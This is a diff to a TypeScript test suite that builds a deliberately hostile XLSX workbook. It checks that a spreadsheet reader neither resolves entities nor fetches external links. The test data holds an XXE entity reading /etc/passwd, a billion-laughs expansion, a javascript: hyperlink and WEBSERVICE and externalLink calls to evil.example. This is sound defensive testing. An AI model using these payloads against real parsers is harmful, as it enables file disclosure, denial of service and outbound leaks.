@@ -75,13 +75,30 @@ const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';
 /** A workbook with this sheet, as an attacker writes it. */
 function hostileWorkbook(sheet: string, { format = 'General', doctype = '' } = {}): ArrayBuffer {
   const sheetType = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
+  const worksheet = `<worksheet xmlns="${MAIN}" xmlns:r="${OFFICE}"><sheetData>${sheet}</sheetData></worksheet>`;
   return zipOf({
-    '[Content_Types].xml': `<Types xmlns="${PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="${sheetType}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${sheetType}.worksheet+xml"/><Override PartName="/xl/styles.xml" ContentType="${sheetType}.styles+xml"/></Types>`,
-    '_rels/.rels': `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
-    'xl/workbook.xml': `<?xml version="1.0"?>${doctype}<workbook xmlns="${MAIN}" xmlns:r="${OFFICE}"><sheets><sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>`,
-    'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="${OFFICE}/styles" Target="styles.xml"/><Relationship Id="r3" Type="${OFFICE}/externalLink" Target="https://evil.example/x.xlsx" TargetMode="External"/></Relationships>`,
-    'xl/styles.xml': `<styleSheet xmlns="${MAIN}"><numFmts count="1"><numFmt numFmtId="200" formatCode="${format}"/></numFmts><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="200" applyNumberFormat="1"/></cellXfs></styleSheet>`,
-    'xl/worksheets/sheet1.xml': `<worksheet xmlns="${MAIN}" xmlns:r="${OFFICE}"><sheetData>${sheet}</sheetData></worksheet>`,
+    '[Content_Types].xml':
+      `<Types xmlns="${PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/>` +
+      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
+      `<Override PartName="/xl/workbook.xml" ContentType="${sheetType}.sheet.main+xml"/><Override ` +
+      `PartName="/xl/worksheets/sheet1.xml" ContentType="${sheetType}.worksheet+xml"/><Override ` +
+      `PartName="/xl/styles.xml" ContentType="${sheetType}.styles+xml"/></Types>`,
+    '_rels/.rels':
+      `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" ` +
+      `Type="${OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
+    'xl/workbook.xml':
+      `<?xml version="1.0"?>${doctype}<workbook xmlns="${MAIN}" xmlns:r="${OFFICE}"><sheets><sheet ` +
+      'name="s" sheetId="1" r:id="r1"/></sheets></workbook>',
+    'xl/_rels/workbook.xml.rels':
+      `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/worksheet" ` +
+      `Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="${OFFICE}/styles" Target="styles.xml"/>` +
+      `<Relationship Id="r3" Type="${OFFICE}/externalLink" Target="https://evil.example/x.xlsx" ` +
+      'TargetMode="External"/></Relationships>',
+    'xl/styles.xml':
+      `<styleSheet xmlns="${MAIN}"><numFmts count="1"><numFmt numFmtId="200" formatCode="${format}"/>` +
+      '</numFmts><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="200" applyNumberFormat="1"/></cellXfs>' +
+      '</styleSheet>',
+    'xl/worksheets/sheet1.xml': worksheet,
   });
 }
 const size = (sheets: Awaited<ReturnType<typeof readSheets>>) =>
@@ -114,9 +131,11 @@ test.each([
 
 test('formulas, links and entities of a workbook are texts, and nothing is fetched for them', async () => {
   const doctype =
-    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>';
+    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b ' +
+    '"&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>';
   const sheet =
-    '<row r="1"><c r="A1" t="inlineStr"><is><t>=HYPERLINK("javascript:alert(1)")</t></is></c><c r="B1"><f>WEBSERVICE("https://evil.example")</f><v>7</v></c></row>';
+    '<row r="1"><c r="A1" t="inlineStr"><is><t>=HYPERLINK("javascript:alert(1)")</t></is></c><c r="B1">' +
+    '<f>WEBSERVICE("https://evil.example")</f><v>7</v></c></row>';
   const sheets = await readSheets(hostileWorkbook(sheet, { doctype }), 'a.xlsx').catch(() => []);
   expect(JSON.stringify(sheets)).not.toMatch(/root:|evil/);
 });
